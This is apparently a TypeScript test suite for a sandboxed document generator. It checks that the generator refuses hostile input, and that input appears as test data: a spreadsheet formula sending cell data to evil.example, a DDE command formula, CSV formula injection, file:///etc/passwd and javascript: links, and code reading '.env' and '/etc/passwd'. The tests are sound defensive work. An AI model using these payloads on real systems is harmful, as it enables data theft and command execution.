import { execFile } from "node:child_process";
import { promisify } from "node:util";
import { strFromU8, unzipSync } from "fflate";
import { afterAll, describe, expect, it, vi } from "vitest";
import { readDocument, textWithPlaces } from "@/lib/runtime/documents/read-document";
import type { DocumentType } from "@/lib/runtime/documents/sniff-type";
import { imageSize } from "@/lib/runtime/documents/sniff-type";
import {
  FileMaker,
  MAKERS_READABLE,
  type ReadNamed,
  Unmade,
} from "@/lib/runtime/makers/file-maker";
import type { GuestOrder } from "@/lib/runtime/sandbox/run-guest-code";
import { permissions } from "@/lib/runtime/sandbox/run-limited-child";

// Each call starts a process, which takes its time on a busy machine.
vi.setConfig({ testTimeout: 120_000 });

const signal = new AbortController().signal;
const ROWS = [
  { month: "Jan", sales: 120, cost: 80.5 },
  { month: "Feb", sales: 150.25, cost: 95 },
  { month: "Mar <&>", sales: null, cost: 110 },
];
const CHART = { type: "bar", data: ROWS, x: "month", y: ["sales", "cost"], title: "Sales & cost" };
const MARKDOWN =
  "# Report\n\nSales **grew**, see [the source](https://example.com/a?b=1&c).\n\n- one\n- two\n" +
  "  1. inner\n\n| a | b |\n|---|--:|\n| x | 1 |\n\n> quoted\n\n```\ncode <b>\n```";

type MakerName = GuestOrder["maker"];

const maker = new FileMaker(signal);
afterAll(() => maker.end());

const order = (type: MakerName, spec: unknown): GuestOrder => ({
  maker: type,
  spec: Buffer.from(JSON.stringify(spec)),
});
const nothing: ReadNamed = () => Promise.resolve(null);
async function makeOne(type: MakerName, spec: unknown, read = nothing) {
  try {
    const { bytes, facts } = await maker.make(order(type, spec), read);
    return { ok: true as const, bytes, ...facts };
  } catch (error) {
    if (!(error instanceof Unmade)) throw error;
    return { ok: false as const, problem: error.message };
  }
}
async function bytesOf(type: MakerName, spec: unknown, read = nothing) {
  const made = await makeOne(type, spec, read);
  if (!made.ok) throw new Error(made.problem);
  return made.bytes;
}
async function textOf(type: DocumentType, bytes: Uint8Array) {
  const content = await readDocument({
    bytes,
    type,
    addresses: true,
    maxCharacters: 100_000,
    accountId: "a",
    signal,
  });
  if (!content.ok) throw new Error(content.problem);
  return textWithPlaces(content.sections);
}
const partsOf = (bytes: Uint8Array) =>
  Object.fromEntries(
    Object.entries(unzipSync(bytes)).map(([name, part]) => [name, strFromU8(part)]),
  );

describe("a maker of files", () => {
  it("makes a workbook whose cells are read back as they were, dates, formulas too", async () => {
    const bytes = await bytesOf("xlsx", {
      sheets: {
        "Data: 2026": [
          {
            day: "2026-03-01T00:00:00.000Z",
            id: "00501",
            ok: true,
            n: 1.5,
            f: { formula: "D2*2", value: 3 },
          },
          { day: "2026-03-02", id: "=1+1", ok: false, n: null, f: null },
        ],
        Summary: { rows: ROWS, chart: { ...CHART, data: undefined }, formats: { sales: "0.0%" } },
      },
    });
    const text = await textOf("xlsx", bytes);
    expect(text).toContain(
      "1,day,id,ok,n,f\n2,2026-03-01,00501,true,1.5,3\n3,2026-03-02,=1+1,false,,",
    );
    expect(text).toContain("[sheet Summary!A1:C4]");
    expect(text).toContain("Mar <&>,,110");
    const parts = partsOf(bytes);
    // What a table holds is text, whatever it begins with: only a cell that says so computes.
    expect(parts["xl/worksheets/sheet1.xml"]?.match(/<f>/g)).toHaveLength(1);
    expect(parts["xl/charts/chart1.xml"]).toContain("<c:f>'Summary'!$B$2:$B$4</c:f>");
    expect(parts["xl/charts/chart1.xml"]).toContain("Sales &amp; cost");
    expect(parts["xl/styles.xml"]).toContain('formatCode="0.0%"');
  });

  it.each([
    'WEBSERVICE("https://evil.example/?d="&A1)',
    '=HYPERLINK("https://evil.example","x")',
    "'[book.xlsx]Sheet1'!A1",
    "cmd|' /C calc'!A0",
    'IMPORTXML("x","y")',
    'INDIRECT("A"&1)',
  ])("refuses the formula %s, which reaches out of its workbook", async (formula) => {
    expect(await makeOne("xlsx", [{ a: { formula } }])).toMatchObject({
      ok: false,
      problem: expect.stringContaining("A2 is refused"),
    });
  });

  it("makes a text document, whose charts keep their data", async () => {
    const bytes = await bytesOf("docx", {
      title: "Quarter",
      content: [MARKDOWN, { chart: CHART }, { table: ROWS }],
    });
    const text = await textOf("docx", bytes);
    for (const part of [
      "Quarter",
      "Report",
      "**grew**",
      "two",
      "inner",
      "quoted",
      "code <b>",
      "Mar <&>",
      "150.25",
    ])
      expect(text.replace(/grew/, "**grew**")).toContain(part);
    expect(partsOf(bytes)["word/charts/chart1.xml"]).toContain("150.25");
  });

  it("makes a PDF of one page where one is asked for, and says how many it has", async () => {
    const long = Array.from({ length: 45 }, (_, at) => `Line ${at + 1} of the report.`).join(
      "\n\n",
    );
    const one = await makeOne("pdf", { title: "Quarter", max_pages: 1, content: [MARKDOWN, long] });
    expect(one).toMatchObject({ ok: true, pages: 1 });
    const text = await textOf("pdf", one.ok ? one.bytes : new Uint8Array());
    expect(text).toContain("[page 1]");
    expect(text).not.toContain("[page 2]");
    expect(text).toContain("Line 45 of the report.");
    const free = await makeOne("pdf", { content: [long, { chart: CHART }] });
    expect(free).toMatchObject({ ok: true, pages: expect.any(Number) });
    expect(free.ok && free.pages).toBeGreaterThan(1);
    const tooMuch = await makeOne("pdf", { content: `${long}\n\n`.repeat(8), max_pages: 1 });
    expect(tooMuch).toMatchObject({ ok: true, note: expect.stringContaining("1 were asked for") });
  });

  it("says which characters a PDF has no letters for", async () => {
    const made = await makeOne("pdf", {
      title: "Größe → Σ",
      content: [{ table: [{ a: "日本 ✓" }] }],
    });
    expect(made).toMatchObject({ ok: true, note: expect.stringContaining("missing: → 日 本 ✓.") });
  });

  it("makes slides in their order, with notes, tables and charts", async () => {
    const made = await makeOne("pptx", {
      title: "Quarter",
      slides: [
        { title: "Words", content: "- one\n- Cost **fell**", notes: "Say it" },
        { title: "Figures", content: [{ table: ROWS }, { chart: CHART }] },
        { title: "Share", content: [{ chart: { ...CHART, type: "pie", y: "cost" } }] },
      ],
    });
    expect(made).toMatchObject({ ok: true, slides: 4 });
    const bytes = made.ok ? made.bytes : new Uint8Array();
    const text = await textOf("pptx", bytes);
    expect(text).toMatch(/\[slide 2\]\nWords\none\nCost fell\nNotes: Say it/);
    expect(text).toContain("Mar <&>");
    // A paragraph has its properties before its first run alone.
    expect(partsOf(bytes)["ppt/slides/slide2.xml"]).not.toMatch(/<\/a:r><a:pPr/);
    expect(
      Object.keys(partsOf(bytes)).filter((name) => /charts\/chart\d+\.xml$/.test(name)),
    ).toHaveLength(2);
  });

  it.each(["bar", "line", "area", "pie", "scatter"])("draws a chart of type %s", async (type) => {
    const spec = {
      type,
      title: "Märkte & Σ",
      data: [
        { x: 1, y: 5 },
        { x: 2, y: -3 },
        { x: 4, y: 8 },
      ].map((row) => (type === "pie" ? { ...row, y: Math.abs(row.y) } : row)),
      x: "x",
      y: "y",
    };
    const png = await bytesOf("png", spec);
    expect(imageSize(png, "image/png")).toEqual({ width: 1920, height: 1080 });
    expect(new TextDecoder().decode(await bytesOf("svg", spec))).toContain("Märkte &amp; Σ");
  });

  it("writes CSV without formulas, and packs and shows the files that an order names", async () => {
    const rows = [{ a: "x, y", b: "=cmd()", c: "-5.5", d: 'say "hi"' }];
    const files = new Map([
      ["a.csv", await bytesOf("csv", rows)],
      ["run:c d.png", await bytesOf("png", CHART)],
      ["e.svg", await bytesOf("svg", { ...CHART, type: "line" })],
      ["raw.bin", new Uint8Array([0, 255, 10])],
    ]);
    const asked: string[] = [];
    const read: ReadNamed = (path) => {
      asked.push(path);
      return Promise.resolve(files.get(path) ?? null);
    };
    const entries = unzipSync(await bytesOf("zip", ["a.csv", "run:c d.png", "raw.bin"], read));
    expect(Object.keys(entries)).toEqual(["a.csv", "c d.png", "raw.bin"]);
    expect(new TextDecoder().decode(entries["a.csv"])).toBe(
      `a,b,c,d\r\n"x, y",'=cmd(),-5.5,"say ""hi"""\r\n`,
    );
    expect(entries["raw.bin"]).toEqual(new Uint8Array([0, 255, 10]));
    const markdown = "Look:\n\n![Sales](run:c%20d.png)\n\n![lines](e.svg)";
    const pictures = Object.keys(partsOf(await bytesOf("docx", { title: "T", markdown }, read)));
    expect(pictures.filter((name) => name.startsWith("word/media/"))).toHaveLength(2);
    const slides = { slides: [{ title: "S", markdown }] };
    expect(
      Object.keys(partsOf(await bytesOf("pptx", slides, read))).filter((name) =>
        /^ppt\/media\/./.test(name),
      ),
    ).toHaveLength(2);
    expect(await makeOne("pdf", { title: "T", markdown }, read)).toMatchObject({ pages: 1 });
    expect(asked).toEqual(expect.arrayContaining(["run:c d.png", "e.svg"]));
    expect(await makeOne("pdf", { markdown: "![x](gone.png)" }, read)).toMatchObject({
      problem: 'There is no file "gone.png".',
    });
  });

  it("passes on why a file that an order names cannot be read, and ends then", async () => {
    const own = new FileMaker(signal);
    const broken: ReadNamed = () => Promise.reject(new Error("storage is away"));
    await expect(own.make(order("zip", ["a"]), broken)).rejects.toThrow("storage is away");
    const { bytes } = await own.make(order("csv", ROWS), nothing);
    expect(bytes.length).toBeGreaterThan(10);
    own.end();
  });

  it.each<[MakerName, unknown, RegExp]>([
    ["xlsx", { sheets: {} }, /at least one sheet/],
    ["xlsx", "rows", /A workbook is rows/],
    ["pptx", { title: "x" }, /A presentation is/],
    [
      "xlsx",
      { rows: ROWS, columns: ["month", "profit"] },
      /no column "profit".*month, sales, cost/,
    ],
    ["xlsx", { rows: ROWS, chart: { type: "bar", y: "profit" } }, /no column "profit"/],
    ["xlsx", { rows: ROWS, chart: { type: "radar" } }, /bar, line, area, pie, scatter/],
    ["png", { ...CHART, y: "month" }, /holds "Jan", which is no number/],
    ["png", { ...CHART, data: [] }, /no rows/],
    ["png", { ...CHART, data: Array.from({ length: 1001 }, () => ROWS[0]) }, /Sum them up first/],
    ["pdf", { content: [{ picture: 1 }] }, /content is Markdown/],
    ["docx", { content: [{ image: "https://evil.example/a.png" }] }, /There is no file "https/],
    [
      "pptx",
      {
        slides: [
          { title: "x", content: [{ table: Array.from({ length: 60 }, () => ({ a: 1 })) }] },
        ],
      },
      /does not fit on a slide/,
    ],
    ["zip", ["nothing.txt"], /There is no file "nothing.txt"/],
  ])("says of a %s that cannot be made what is wrong (%#)", async (maker, spec, problem) => {
    expect(await makeOne(maker, spec)).toMatchObject({
      ok: false,
      problem: expect.stringMatching(problem),
    });
  });

  it("fetches nothing that a document names", async () => {
    const content =
      "![x](http://127.0.0.1:9/a.png) <img src='http://127.0.0.1:9/b.png'> " +
      "[y](javascript:alert(1)) [z](file:///etc/passwd)";
    const parts = partsOf(await bytesOf("docx", { content }));
    expect(Object.values(parts).join("")).not.toMatch(/127\.0\.0\.1|javascript:|file:\/\//);
    const svg =
      '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><image ' +
      'href="file:///etc/passwd" width="5" height="5"/><image href="http://127.0.0.1:9/a.png" ' +
      'width="5" height="5"/></svg>';
    expect(await makeOne("png", { svg })).toMatchObject({ ok: true });
  });

  it("ends what takes too much memory, and none after it", async () => {
    const huge = { svg: '<svg xmlns="http://www.w3.org/2000/svg" width="60000" height="60000"/>' };
    expect(await makeOne("png", huge)).toMatchObject({ ok: false });
    const deep = { content: `${"> ".repeat(20_000)}x` };
    expect(await makeOne("docx", deep)).toHaveProperty("ok");
    expect(await makeOne("csv", ROWS)).toMatchObject({ ok: true });
  });

  it("kills its process when it is aborted", async () => {
    const controller = new AbortController();
    const own = new FileMaker(controller.signal);
    const making = own.make(order("pdf", { markdown: "x" }), nothing);
    controller.abort(new Error("cancelled"));
    await expect(making).rejects.toThrow("cancelled");
  });

  it.each([
    ["a file of the service", "require('node:fs').readFileSync('.env')"],
    ["a file of the machine", "require('node:fs').readFileSync('/etc/passwd')"],
    ["writing", "require('node:fs').writeFileSync('/tmp/x', '')"],
    ["another process", "require('node:child_process').execFileSync(process.execPath, ['-v'])"],
  ])("runs in a process that is denied %s", async (_, code) => {
    const ended = promisify(execFile)(process.execPath, [
      ...permissions(MAKERS_READABLE),
      "-e",
      code,
    ]);
    await expect(ended).rejects.toMatchObject({
      stderr: expect.stringContaining("ERR_ACCESS_DENIED"),
    });
  });
});
